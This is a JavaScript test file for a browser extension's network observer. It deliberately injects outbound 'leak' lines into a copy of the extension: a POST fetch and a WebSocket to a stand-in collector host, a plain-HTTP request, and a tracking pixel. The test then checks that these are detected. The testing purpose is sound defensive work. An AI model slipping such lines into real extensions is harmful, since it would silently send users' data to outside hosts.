// The network observer sees what it is there to see: a package that sends
// something, in each way that an extension has, fails the file that it is tested in.

import assert from 'node:assert/strict';
import { appendFileSync, cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { BROWSERS, openEditor, startBrowser } from './harness/browser.mjs';
import { startServer } from './harness/server.mjs';

/** What is added to the package: where, and what it does. */
const LEAKS = {
  'the background asks another host': ['background/background.js', "fetch('https://collector.example/x', { method: 'POST', body: '1' }).catch(() => 0);"],
  'the background asks a watched site': ['background/background.js', "fetch('https://x.com/?editor=textarea').catch(() => 0);"],
  'the background opens a socket': ['background/background.js', "new WebSocket('wss://collector.example/x');"],
  'the background asks without TLS': ['background/background.js', "fetch('http://collector.example/x').catch(() => 0);"],
  'the content script loads a picture': ['content.js', "new Image().src = '/pixel.gif?1';"],
};

if (BROWSERS.includes('chrome')) {
  describe('network observer', () => {
    for (const [what, [file, line]] of Object.entries(LEAKS)) {
      it(what, async () => {
        const folder = mkdtempSync(join(tmpdir(), 'primum-leak-'));
        cpSync('dist/chrome', folder, { recursive: true });
        const manifest = JSON.parse(readFileSync(join(folder, 'manifest.json'), 'utf8'));
        manifest.content_security_policy.extension_pages = "script-src 'self' 'wasm-unsafe-eval'; object-src 'none'";
        manifest.host_permissions = ['<all_urls>'];
        writeFileSync(join(folder, 'manifest.json'), JSON.stringify(manifest));
        appendFileSync(join(folder, file), `\n${line}\n`);
        const server = await startServer();
        const browser = await startBrowser('chrome', server, { extension: folder });
        try {
          await openEditor(await browser.newPage(), { editor: 'textarea' });
          await new Promise((done) => setTimeout(done, 1500));
        } finally {
          await browser.close();
          rmSync(folder, { recursive: true, force: true });
        }
        assert.throws(() => server.close(), /requests that no page and no browser made/);
      });
    }
  });
}
